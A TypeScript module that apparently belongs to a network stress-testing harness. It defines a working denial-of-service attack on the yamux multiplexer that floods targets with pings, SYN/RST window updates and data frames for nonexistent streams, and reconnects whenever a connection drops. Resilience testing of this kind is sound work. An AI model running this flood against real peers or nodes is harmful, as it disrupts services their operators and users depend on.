import type { Attack } from '../attack.ts';
import { again } from '../persistence.ts';

const FRAME = { data: 0, windowUpdate: 1, ping: 2 } as const;
const SYN = 1;
const RST = 8;
const HEADER_BYTES = 12;
const ROUNDS_PER_TURN = 100;
const FILLER = new Uint8Array(1024);
const MOST_UNSENT_BYTES = 256 * 1024;

/** Frames of yamux that cost a sender 12 bytes: pings, streams that begin and end at once, and data for nobody. */
export const multiplexerFrames: Attack = {
  name: 'multiplexer-frames',
  about:
    'pings, streams that begin and end at once, windows and data of streams that do not exist, as fast as it goes',
  protocol: 'yamux',
  prepare: async (scene) => {
    const hosts = await Promise.all(
      scene.targets.map(async (target) => ({ target, host: await scene.host() })),
    );
    return async (signal) => {
      await Promise.all(
        hosts.map(({ target, host }) =>
          again(
            signal,
            async () => {
              await host.connect(target, signal);
              const { secured } = host.wire();
              for (let stream = 1001; !signal.aborted && secured.status === 'open'; stream += 2) {
                secured.send(frame(FRAME.ping, SYN, 0, stream));
                secured.send(frame(FRAME.windowUpdate, SYN, stream, 0));
                secured.send(frame(FRAME.windowUpdate, RST, stream, 0));
                secured.send(frame(FRAME.windowUpdate, 0, stream, 1000));
                secured.send(frame(FRAME.data, 0, stream, FILLER.byteLength));
                secured.send(FILLER);
                scene.count('rounds');
                if (stream % ROUNDS_PER_TURN === 1) await emptied(secured);
              }
              throw new Error('the connection is closed');
            },
            (error) => {
              scene.refused(error);
              host.leave();
            },
          ),
        ),
      );
    };
  },
};

function frame(type: number, flags: number, stream: number, length: number): Uint8Array {
  const bytes = new DataView(new ArrayBuffer(HEADER_BYTES));
  bytes.setUint8(1, type);
  bytes.setUint16(2, flags);
  bytes.setUint32(4, stream);
  bytes.setUint32(8, length);
  return new Uint8Array(bytes.buffer);
}

async function emptied(secured: {
  readonly status: string;
  readonly writeBufferLength: number;
}): Promise<void> {
  do await new Promise((resolve) => setImmediate(resolve));
  while (secured.status === 'open' && secured.writeBufferLength > MOST_UNSENT_BYTES);
}
